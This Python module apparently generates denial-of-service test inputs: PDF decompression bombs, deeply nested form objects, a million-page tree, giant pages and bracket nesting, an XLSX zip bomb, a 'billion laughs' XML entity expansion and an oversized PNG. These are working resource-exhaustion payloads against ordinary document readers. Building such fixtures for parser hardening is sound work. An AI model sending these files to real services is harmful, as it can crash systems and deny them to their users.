"""Small files that cost whoever opens them seconds of processor or gigabytes of memory."""

from __future__ import annotations

import io
import zipfile
import zlib

MIB = 1024 * 1024


def _pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, the first one its catalogue; readers rebuild the table of places."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate(objects, 1))
    return (
        b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R/Size %d>>\n%%%%EOF\n" % (len(objects) + 1)
    )


def _stream(data: bytes, words: bytes = b"/Filter/FlateDecode", packings: int = 1) -> bytes:
    for _ in range(packings):
        data = zlib.compress(data, 9)
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (words, len(data), data)


def _page(content: bytes, box: bytes = b"0 0 595 842", more: bytes = b"") -> bytes:
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s/Font<</F 5 0 R>>>>>>"
        % (box, more),
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def unpacks() -> bytes:
    """A content of blanks that becomes gigabytes when unpacked twice."""
    words = b"/Filter[/FlateDecode/FlateDecode]"
    return _page(_stream(b" " * (1024 * MIB), words, packings=2))


def draws() -> bytes:
    """Millions of letters on one page, in a few kilobytes."""
    one = b"BT /F 9 Tf (Nota pembelian alat tulis kantor) Tj ET\n"
    return _page(_stream(one * 2_000_000))


def nests() -> bytes:
    """Forms that draw forms that draw forms: ten each, ten deep."""
    forms = [
        _stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
            b"/Filter/FlateDecode" % (7 + n),
        )
        for n in range(10)
    ]
    last = _stream(
        b"BT /F 9 Tf (x) Tj ET",
        b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>>>"
        b"/Filter/FlateDecode",
    )
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources"
        b"<</XObject<</X 6 0 R>>>>>>",
        _stream(b"/X Do"),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *forms,
        last,
    )


def many_kids() -> bytes:
    """A million pages that are one and the same."""
    kids = b"3 0 R " * 1_000_000
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count 1000000>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def giant_page() -> bytes:
    """A page as large as a country, with a picture over all of it."""
    return _page(
        b"<</Length 40>>stream\nq 9e9 0 0 9e9 0 0 cm BI /W 60000 /H 60000 /CS /G /BPC 8"
        b" ID \xff EI Q"
        b"\nendstream",
        b"0 0 9000000000 9000000000",
    )


def deep_arrays() -> bytes:
    """Brackets within brackets."""
    return _page(_stream(b"[" * 5_000_000 + b"]" * 5_000_000))


def workbook(members: int = 1, size: int = 200 * MIB) -> bytes:
    """An XLSX whose sheets are blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(members):
            archive.writestr(f"xl/worksheets/sheet{number}.xml", b" " * size)
    return out.getvalue()


def laughs() -> bytes:
    """XML whose entities stand for a billion others."""
    lines = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE x [{lines}]><Document>&l9;</Document>'.encode()


def picture(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG of real, equal dots."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()
